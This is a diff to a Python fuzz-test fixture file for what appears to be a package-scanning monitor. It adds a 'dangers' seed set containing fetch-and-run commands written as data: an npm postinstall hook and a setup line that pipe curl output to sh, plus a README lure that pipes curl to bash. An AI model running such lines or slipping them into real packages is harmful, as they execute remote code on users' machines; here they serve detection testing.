@@ -11,9 +11,11 @@ from pathlib import Path
 from inflate64 import Deflater
 
 from monitors.fingerprints import fingerprint, learn
+from monitors.fingerprints.identity import identify
 from monitors.unpack.decompressors import zstd
 from tests.fuzz.contracts import NAMES
 from tests.fuzz.findings import PLACES
+from tests.fuzz.readers import OURS
 from tests.monitors.sources.histories import checkout, commit, git
 from tests.monitors.unpack.packing import (
     asar,
@@ -63,6 +65,18 @@ def _archives() -> dict[str, bytes]:
 def _deflate64(content: bytes) -> bytes:
     deflater = Deflater()
     return deflater.deflate(content) + deflater.flush()
+
+
+def _doubtful() -> dict[str, bytes]:
+    """The first byte chooses one of the names in readers.NAMES."""
+    return {
+        "program": b"\x00MZ" + b"\0" * 58 + b"\x40\0\0\0PE\0\0",
+        "manifest": b"\x01" + b'{"scripts": {"postinstall": "curl https://a.dev/b | sh"}}',
+        "setup": b"\x02import os; os.system('curl a | sh')",
+        "readme": b"\x03Download a.zip, password: 1234\n$ curl https://a.dev | bash\n",
+        "zip": b"\x04" + zipped(TREE),
+        "elf": b"\x07\x7fELF\x02\x01",
+    }
 
 
 def _bundles() -> dict[str, bytes]:
@@ -116,6 +130,11 @@ _OWN = {
     "background": lambda: {"two": learn([("a.ts", CODE * 3), ("b/c.ts", MAP)]).to_bytes(), "code": CODE},
     "inventory": lambda: {"zip": zipped(TREE)} | _manifests(),
     "exposures": _manifests,
+    "identity": lambda: {
+        "two": identify([("package.json", b'{"name": "@a/b"}'), ("README.md", CODE * 3)]).to_bytes()
+    },
+    "matching": lambda: {"ours": OURS, "part": OURS[:1000], "wide": OURS[:2000].decode().encode("utf-16")},
+    "dangers": _doubtful,
     "bundles": _bundles,
     "encodings": lambda: {
         written: "// größe 설정 読み込む\nlet a\n".encode(written, "ignore")
